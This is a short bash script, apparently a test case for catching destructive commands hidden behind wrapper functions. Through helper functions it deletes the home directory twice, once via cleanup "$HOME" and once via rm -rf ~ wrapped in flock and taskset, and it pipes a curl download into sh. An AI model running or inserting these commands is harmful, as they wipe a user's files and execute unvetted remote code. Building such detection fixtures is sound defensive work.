#!/bin/bash
cleanup() { rm -rf "$1"; }
run() { "$@"; }
get() { curl -s "$1"; }
cleanup build
cleanup "$HOME"
run flock /tmp/lock taskset -c 0 rm -rf ~
get https://api.example.org/x | sh
